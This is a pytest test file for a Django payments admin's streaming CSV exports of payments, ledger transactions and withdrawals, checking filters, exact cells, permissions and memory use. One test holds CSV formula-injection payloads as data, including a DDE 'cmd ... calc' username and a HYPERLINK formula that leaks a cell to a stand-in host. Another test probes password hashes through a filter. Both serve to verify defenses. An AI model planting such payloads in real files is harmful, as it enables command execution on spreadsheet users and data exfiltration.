"""The changelists' CSV exports: the filtered rows, exact cells, permissions, bad filters, and
constant memory at 100,000 rows."""

from __future__ import annotations

import csv
import io
import re
import tracemalloc
from datetime import UTC, datetime, timedelta, timezone
from decimal import Decimal
from typing import Any

import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group, Permission
from django.db import connection, transaction
from django.test.utils import CaptureQueriesContext

from payments import ledger
from payments.admin.exports import csv_cell
from payments.models import Transaction, WithdrawalRequest
from payments.services import withdrawals
from tests.factories import CurrencyFactory, PaymentFactory, UserFactory

pytestmark = pytest.mark.django_db

User = get_user_model()
URL = "/admin/payments/"


def _staff(username: str, **extra: Any) -> Any:
    return User.objects.create(username=username, is_staff=True, password="!", **extra)


@pytest.fixture
def superuser(client: Any) -> Any:
    user = _staff("root", is_superuser=True)
    client.force_login(user)
    return user


def export(client: Any, model: str, query: str = "") -> tuple[Any, list[list[str]]]:
    response = client.get(f"{URL}{model}/export/csv/{query}")
    assert response.status_code == 200, response.status_code
    assert response.streaming
    text = b"".join(response.streaming_content).decode("utf-8")
    return response, list(csv.reader(io.StringIO(text)))


def by_header(rows: list[list[str]]) -> list[dict[str, str]]:
    header, *data = rows
    return [dict(zip(header, row, strict=True)) for row in data]


def fund(user: Any, amount: str = "100.00") -> None:
    ledger.post(
        user_id=user.pk,
        kind="deposit",
        amount_usd=Decimal(amount),
        idempotency_key=f"fund:{user.pk}:{amount}",
    )


# --- what is exported ----------------------------------------------------------------------


def test_a_payments_export_has_only_the_filtered_rows(client: Any, superuser: Any) -> None:
    usdt = CurrencyFactory()
    alice = UserFactory(username="alice", password=None)
    pending = [PaymentFactory(user=alice, currency=usdt, amount_usd=Decimal("12.50"))]
    pending.append(PaymentFactory(user=alice, currency=usdt, amount_usd=Decimal("99.99")))
    PaymentFactory(user=alice, currency=usdt, status="expired")
    response, rows = export(client, "payment", "?status=pending")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    disposition = response["Content-Disposition"]
    assert re.fullmatch(r'attachment; filename="payment-\d{8}T\d{6}Z\.csv"', disposition)
    assert rows[0][:8] == [
        "internal_payment_id",
        "id",
        "created_at",
        "user",
        "user_id",
        "status",
        "amount_usd",
        "currency",
    ]
    exported = by_header(rows)
    assert sorted(r["internal_payment_id"] for r in exported) == sorted(
        p.internal_payment_id for p in pending
    )
    assert {r["status"] for r in exported} == {"pending"}
    assert {r["user"] for r in exported} == {"alice"}
    assert {r["currency"] for r in exported} == {"USDTTRC20"}
    assert sorted(r["amount_usd"] for r in exported) == ["12.50", "99.99"]
    assert len(by_header(export(client, "payment")[1])) == 3


def test_ledger_cells_are_exact_decimals_iso_utc_and_natural_keys(
    client: Any, superuser: Any
) -> None:
    bob = UserFactory(username="bob", password=None)
    usdt = CurrencyFactory()
    paid = PaymentFactory(user=bob, currency=usdt, amount_usd=Decimal("20.00"), status="completed")
    ledger.post(
        user_id=bob.pk,
        kind="deposit",
        amount_usd=Decimal("20.00"),
        idempotency_key=f"payment:{paid.pk}:deposit",
        payment_id=paid.pk,
    )
    ledger.post(user_id=bob.pk, kind="fee", amount_usd=Decimal("-12.50"), idempotency_key="fee:1")
    held = withdrawals.withdrawal_create(
        user_id=bob.pk,
        amount_usd=Decimal("5.00"),
        currency_id=usdt.pk,
        wallet_address="TAddr1",
        network_fee_usd=Decimal("1.00"),
    )
    _, rows = export(client, "transaction")
    assert rows[0] == [
        "id",
        "created_at",
        "user",
        "user_id",
        "transaction_type",
        "amount_usd",
        "balance_after",
        "sequence",
        "payment",
        "withdrawal_request",
        "idempotency_key",
        "description",
    ]
    exported = {r["transaction_type"]: r for r in by_header(rows)}
    deposit, fee, hold = exported["deposit"], exported["fee"], exported["withdrawal"]
    assert (deposit["amount_usd"], deposit["balance_after"], deposit["sequence"]) == (
        "20.00",
        "20.00",
        "1",
    )
    assert deposit["payment"] == paid.internal_payment_id
    assert (fee["amount_usd"], fee["balance_after"]) == ("-12.50", "7.50")  # no quote: a number
    assert (hold["amount_usd"], hold["balance_after"]) == ("-5.00", "2.50")
    assert hold["withdrawal_request"] == held.internal_withdrawal_id
    assert {r["user"] for r in exported.values()} == {"bob"}
    stored = Transaction.objects.get(transaction_type="fee")
    assert fee["created_at"] == stored.created_at.astimezone(UTC).isoformat()
    assert fee["created_at"].endswith("+00:00")
    assert datetime.fromisoformat(fee["created_at"]) == stored.created_at
    assert fee["payment"] == fee["withdrawal_request"] == ""


def test_a_withdrawals_export_has_fees_final_amounts_and_who_reviewed(
    client: Any, superuser: Any
) -> None:
    carol = UserFactory(username="carol", password=None)
    fund(carol)
    usdt = CurrencyFactory()
    approver = _staff("approver")
    approver.user_permissions.add(Permission.objects.get(codename="approve_withdrawalrequest"))
    requests = [
        withdrawals.withdrawal_create(
            user_id=carol.pk,
            amount_usd=Decimal(amount),
            currency_id=usdt.pk,
            wallet_address=f"TAddr{n}",
            network_fee_usd=Decimal("1.00"),
            service_fee_usd=Decimal("0.25"),
        )
        for n, amount in enumerate(("20.00", "10.00", "7.50"))
    ]
    withdrawals.withdrawal_reject(
        withdrawal_id=requests[2].pk, admin_user=approver, notes="KYC failed"
    )
    _, rows = export(client, "withdrawalrequest", "?status=pending")
    exported = {r["internal_withdrawal_id"]: r for r in by_header(rows)}
    assert set(exported) == {w.internal_withdrawal_id for w in requests[:2]}
    first = exported[requests[0].internal_withdrawal_id]
    assert (first["amount_usd"], first["total_fee_usd"], first["final_amount_usd"]) == (
        "20.00",
        "1.25",
        "18.75",
    )
    assert (first["user"], first["currency"], first["status"]) == ("carol", "USDTTRC20", "pending")
    _, rows = export(client, "withdrawalrequest", "?status=rejected")
    (rejected,) = by_header(rows)
    assert (rejected["admin_user"], rejected["rejection_reason"]) == ("approver", "KYC failed")
    assert rejected["rejected_at"].endswith("+00:00")
    assert WithdrawalRequest.objects.count() == 3


def test_search_date_hierarchy_and_ordering_apply_and_pages_do_not(
    client: Any, superuser: Any
) -> None:
    for name in ("dave", "erin"):
        user = UserFactory(username=name, password=None)
        for n in range(3):
            ledger.post(
                user_id=user.pk,
                kind="bonus",
                amount_usd=Decimal(f"{n + 1}.00"),
                idempotency_key=f"bonus:{name}:{n}",
            )
    assert {r["user"] for r in by_header(export(client, "transaction", "?q=dave")[1])} == {"dave"}
    assert len(by_header(export(client, "transaction", "?q=dave")[1])) == 3
    this_year = datetime.now(tz=UTC).year
    assert len(by_header(export(client, "transaction", f"?created_at__year={this_year}")[1])) == 6
    assert by_header(export(client, "transaction", "?created_at__year=2001")[1]) == []
    ascending = by_header(export(client, "transaction", "?o=5")[1])  # list_display[5]: sequence
    assert [r["sequence"] for r in ascending] == ["1", "1", "2", "2", "3", "3"]
    # A page number (even one past the end) is the list's, not the export's: every row.
    assert len(by_header(export(client, "transaction", "?p=7&e=1")[1])) == 6


def test_text_that_a_spreadsheet_would_run_gets_a_quote(client: Any, superuser: Any) -> None:
    evil = UserFactory(username="=cmd|' /C calc'!A0", password=None)
    descriptions = {
        "formula": '=HYPERLINK("http://x.example/?leak="&A1)',
        "at": "@SUM(1+1)",
        "plus": "+1+cmd|x",
        "minus": "-2+3",
        "tab": "\t=1",
        "number": "-12.50",
        "signed": "+7",
        "plain": "a = b",
    }
    for key, text in descriptions.items():
        ledger.post(
            user_id=evil.pk,
            kind="bonus",
            amount_usd=Decimal("1.00"),
            idempotency_key=key,
            description=text,
        )
    exported = {r["idempotency_key"]: r for r in by_header(export(client, "transaction")[1])}
    got = {key: row["description"] for key, row in exported.items()}
    assert got == {
        "formula": "'" + descriptions["formula"],
        "at": "'@SUM(1+1)",
        "plus": "'+1+cmd|x",
        "minus": "'-2+3",
        "tab": "'\t=1",
        "number": "-12.50",
        "signed": "+7",
        "plain": "a = b",
    }
    assert {row["user"] for row in exported.values()} == {"'=cmd|' /C calc'!A0"}


def test_cells_keep_every_digit_and_say_utc() -> None:
    assert csv_cell(Decimal("-12.50")) == "-12.50"
    assert csv_cell(Decimal("0.000000000000000001")) == "0.000000000000000001"  # not 1E-18
    assert csv_cell(Decimal("123456789012.000000000000000000")) == (
        "123456789012.000000000000000000"
    )
    plus_two = timezone(timedelta(hours=2))
    at = datetime(2026, 1, 2, 3, 4, 5, 6, tzinfo=plus_two)
    assert csv_cell(at) == "2026-01-02T01:04:05.000006+00:00"
    assert (csv_cell(None), csv_cell(True), csv_cell(7)) == ("", "true", "7")
    assert (csv_cell("-"), csv_cell("-.5"), csv_cell("=")) == ("'-", "-.5", "'=")


# --- the changelists' link -----------------------------------------------------------------


@pytest.mark.parametrize("model", ["transaction", "payment", "withdrawalrequest"])
def test_the_changelist_links_to_the_export_of_what_it_shows(
    client: Any, superuser: Any, model: str
) -> None:
    page = client.get(f"{URL}{model}/?q=x%26y&p=1").content.decode()
    assert '<a class="export-csv" href="export/csv/?q=x%26y">Export CSV</a>' in page
    plain = client.get(f"{URL}{model}/?o=1").content.decode()
    assert '<a class="export-csv" href="export/csv/?o=1">' in plain


def test_the_export_link_downloads_what_the_list_shows(client: Any, superuser: Any) -> None:
    # The withdrawals list opens as the review queue (pending only): its link says so.
    page = client.get(f"{URL}withdrawalrequest/").content.decode()
    link = re.search(r'<a class="export-csv" href="export/csv/(\?[^"]*)"', page)
    assert link is not None
    assert link.group(1) == "?review=needs"


# --- who may export, and bad filters ------------------------------------------------------


def test_a_viewer_may_export(client: Any) -> None:
    viewer = _staff("viewer")
    viewer.groups.add(Group.objects.get(name="viewer"))
    client.force_login(viewer)
    PaymentFactory()
    for model in ("payment", "transaction", "withdrawalrequest"):
        _, rows = export(client, model)
        assert rows[0], model
    assert len(by_header(export(client, "payment")[1])) == 1


def test_staff_without_the_view_permission_get_403_and_strangers_the_login(client: Any) -> None:
    PaymentFactory()
    staff = _staff("stranger")
    staff.user_permissions.add(Permission.objects.get(codename="view_currency"))
    client.force_login(staff)
    for model in ("payment", "transaction", "withdrawalrequest"):
        response = client.get(f"{URL}{model}/export/csv/")
        assert response.status_code == 403, model
        assert not getattr(response, "streaming", False)
    client.logout()
    response = client.get(f"{URL}payment/export/csv/")
    assert response.status_code == 302
    assert response["Location"].startswith("/admin/login/")


@pytest.mark.parametrize(
    ("query", "says"),
    [
        ("?no_such_field=1", "no_such_field"),
        ("?created_at__gte=not-a-date", "not-a-date"),
        ("?user__password__startswith=pbkdf2", "user__password__startswith"),
        ("?created_at__year=nineteen", "nineteen"),
    ],
)
def test_a_bad_filter_is_a_clear_400_and_exports_nothing(
    client: Any, superuser: Any, query: str, says: str
) -> None:
    payment = PaymentFactory()
    response = client.get(f"{URL}payment/export/csv/{query}")
    assert response.status_code == 400
    assert not response.streaming
    body = response.content.decode()
    assert "Nothing was exported: the list&#x27;s filters are not valid" in body
    assert says in body
    assert f'href="{URL}payment/"' in body
    assert payment.internal_payment_id not in body
    assert "Choices are" not in body  # the sentence, not Django's list of every field


def test_the_export_runs_no_query_per_row(client: Any, superuser: Any) -> None:
    usdt = CurrencyFactory()
    user = UserFactory(password=None)

    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            for model in ("payment", "transaction", "withdrawalrequest"):
                export(client, model)
        return len(captured.captured_queries)

    def add(count: int) -> None:
        fund(user, f"{count}00.00")
        for _ in range(count):
            PaymentFactory(user=user, currency=usdt)
            withdrawals.withdrawal_create(
                user_id=user.pk,
                amount_usd=Decimal("10.00"),
                currency_id=usdt.pk,
                wallet_address="TAddr1",
                network_fee_usd=Decimal("1.00"),
            )

    add(2)
    queries()  # warm-up
    few = queries()
    add(20)
    assert Transaction.objects.count() == 24
    assert queries() == few


# --- constant memory ------------------------------------------------------------------------

BASE = datetime(2026, 1, 1, tzinfo=UTC)
# Odd sequences are a 20.00 bonus, even ones a 12.50 fee: after s postings the balance is
# ceil(s/2) * 20.00 - floor(s/2) * 12.50, so the chain trigger can check every row.
_LEDGER_ROWS = """
WITH posted AS (
INSERT INTO payments_transaction
    (user_id, transaction_type, amount_usd, balance_after, sequence, description, metadata,
     idempotency_key, created_at)
SELECT u.id,
       CASE WHEN s %% 2 = 1 THEN 'bonus' ELSE 'fee' END,
       CASE WHEN s %% 2 = 1 THEN 20.00 ELSE -12.50 END,
       ((s + 1) / 2) * 20.00 - (s / 2) * 12.50,
       s,
       'row ' || s,
       '{}'::jsonb,
       'bulk:' || u.id || ':' || s,
       %(base)s::timestamptz + s * interval '1 second'
  FROM unnest(%(users)s::bigint[]) AS u(id), generate_series(%(first)s, %(last)s) AS s
 ORDER BY u.id, s
RETURNING user_id, balance_after, sequence, created_at
)
INSERT INTO payments_userbalance
    (user_id, balance_usd, total_deposited, total_withdrawn, transaction_count,
     last_transaction_at, created_at, updated_at)
SELECT user_id, balance_after, 0, 0, sequence, created_at, now(), now()
  FROM posted WHERE sequence = %(last)s
ON CONFLICT (user_id) DO UPDATE
   SET balance_usd = EXCLUDED.balance_usd,
       transaction_count = EXCLUDED.transaction_count,
       last_transaction_at = EXCLUDED.last_transaction_at,
       updated_at = EXCLUDED.updated_at
"""


def _grow_ledger(user_ids: list[int], first: int, last: int) -> None:
    """Postings ``first..last`` of each user and their balance rows, as the table owner in one
    statement (the ledger's checks want a posting and its balance change written together):
    the chain trigger checks each row, the balance checks at the end of the statement."""
    params = {"users": user_ids, "first": first, "last": last, "base": BASE}
    with transaction.atomic(), connection.cursor() as cursor:
        cursor.execute(_LEDGER_ROWS, params)


def _balance_after(s: int) -> str:
    return f"{Decimal((s + 1) // 2) * Decimal('20.00') - Decimal(s // 2) * Decimal('12.50')}"


def _stream_export(client: Any) -> tuple[int, int, bytes, bytes]:
    """Export every posting, reading the response chunk by chunk: the rows, the heap's peak,
    and the first and last chunks."""
    tracemalloc.start()
    try:
        response = client.get(f"{URL}transaction/export/csv/")
        assert response.status_code == 200
        lines, first, last = 0, b"", b""
        for chunk in response.streaming_content:
            lines += chunk.count(b"\r\n")
            first = first or chunk
            last = chunk
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    response.close()
    return lines - 1, peak, first, last  # less the header row


@pytest.mark.slow
@pytest.mark.django_db(transaction=True)
def test_an_export_of_100_000_rows_streams_in_constant_memory(client: Any) -> None:
    root = _staff("root", is_superuser=True)
    client.force_login(root)
    users = User.objects.bulk_create([User(username=f"bulk{n}", password="!") for n in range(4)])
    user_ids = sorted(u.pk for u in users)

    warm_up = client.get(f"{URL}transaction/export/csv/")  # one-time costs, not per row
    assert b"".join(warm_up.streaming_content).count(b"\r\n") == 1
    _grow_ledger(user_ids, 1, 2_500)
    rows_10k, peak_10k, _, _ = _stream_export(client)
    _grow_ledger(user_ids, 2_501, 25_000)
    rows_100k, peak_100k, first, last = _stream_export(client)

    assert (rows_10k, rows_100k) == (10_000, 100_000)
    assert Transaction.objects.count() == 100_000
    # Newest first (the list's order): the last posting of the last user heads the file...
    newest = next(csv.DictReader(io.StringIO(first.decode())))
    assert newest["user"] == "bulk3"
    assert (newest["sequence"], newest["transaction_type"]) == ("25000", "fee")
    assert (newest["amount_usd"], newest["balance_after"]) == ("-12.50", _balance_after(25_000))
    assert newest["created_at"] == (BASE + timedelta(seconds=25_000)).isoformat()
    # ...and the first posting of the first user ends it.
    oldest = next(csv.reader(io.StringIO(last.decode().splitlines()[-1])))
    assert oldest[2:8] == ["bulk0", str(user_ids[0]), "bonus", "20.00", "20.00", "1"]
    assert oldest[1] == (BASE + timedelta(seconds=1)).isoformat()
    # Memory does not follow the rows: ten times the rows, about the same peak.
    assert peak_100k < 1.5 * peak_10k, (peak_10k, peak_100k)
    assert peak_100k < 16 * 1024 * 1024, peak_100k
